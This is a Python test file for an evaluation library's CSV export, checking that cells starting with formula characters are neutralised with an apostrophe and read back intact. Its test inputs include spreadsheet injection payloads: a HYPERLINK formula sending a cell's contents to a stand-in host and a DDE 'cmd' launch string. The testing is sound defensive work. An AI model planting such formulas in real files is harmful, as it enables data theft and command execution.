"""CSV cells a spreadsheet would run as formulas are written as text (CSV / formula injection)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

import nbeval
from nbeval.data.csvsafe import csv_safe, csv_unsafe
from nbeval.evaluators.base import Evaluator, EvaluatorSpec, MetricSpec, Score
from nbeval.evaluators.registry import register

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@register(
    spec=EvaluatorSpec(
        id="t_csv_echo",
        family="test",
        kind="score",
        inputs=("actual_output",),
        metrics=(MetricSpec("v", "higher", lo=-1, hi=1, threshold=0.0, primary=True),),
    )
)
class Echo(Evaluator):
    """Echoes the answer into the label, rationale and error; scores -0.5."""

    def score(self, row):
        return Score({"v": -0.5}, label=row.actual_output, rationale=row.actual_output, error=row.actual_output)


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_csv_safe_prefixes_formulas_with_an_apostrophe(text: str) -> None:
    assert csv_safe(text) == "'" + text
    assert csv_unsafe(csv_safe(text)) == text


@pytest.mark.parametrize(
    "value", [-0.5, -1, 0, 2.5, None, True, "", "plain", "a=b", "'quoted", "'", "mid - dash"], ids=repr
)
def test_csv_safe_leaves_numbers_and_harmless_text_alone(value: object) -> None:
    assert csv_safe(value) is value
    assert csv_unsafe(value) is value


@pytest.mark.parametrize("text", ["'=x", "''=x", "'''+x", "'-", "'", "''", "'hello", "=", "-"], ids=repr)
def test_csv_safe_round_trips_every_string(text: str) -> None:
    # an apostrophe the user typed before a formula character is kept: it gets one more
    assert csv_unsafe(csv_safe(text)) == text


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_result_to_csv_neutralises_text_cells_but_not_numbers(text: str, tmp_path: Path) -> None:
    res = nbeval.evaluate(
        [{"key": text, "model_key": "@m", "input": "q", "actual_output": text}], ["t_csv_echo"], progress=False
    )
    path = tmp_path / "scores.csv"
    res.to_csv(path)
    with open(path, newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    for column in ("key", "label", "rationale", "error"):
        assert row[column] == "'" + text, column
        assert csv_unsafe(row[column]) == text  # nothing the user gave is lost
    assert row["model_key"] == "'@m"
    assert row["value"] == "-0.5"  # a negative number is a number, not a formula
    assert row["evaluator"] == "t_csv_echo" and row["passed"] == "False"
    assert res.scores["rationale"].iloc[0] == text  # the result itself is unchanged


def test_the_dataset_csv_writer_neutralises_formulas_and_reads_them_back(tmp_path: Path) -> None:
    from nbeval.data.model import LlmDataset

    rows: list[dict[str, Any]] = [
        {
            "input": '=HYPERLINK("http://x")',
            "actual_output": "+1 and more",
            "expected_output": "@home",
            "model_key": "m",
            "categories": ["-tag"],
        },
        {"input": "a plain question", "actual_output": "-0.5", "model_key": "m"},
    ]
    ds = LlmDataset.from_records(rows)
    text = ds.to_csv()
    import csv
    import io

    cells = [c for rec in csv.reader(io.StringIO(text)) for c in rec]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]  # a spreadsheet runs none of them
    path = tmp_path / "d.csv"
    ds.to_csv(path)
    back = LlmDataset.from_csv(path)
    got = [(r.input, r.actual_output, r.expected_output, r.categories) for r in back.rows]
    assert got == [(r["input"], r["actual_output"], r.get("expected_output"), r.get("categories", [])) for r in rows]
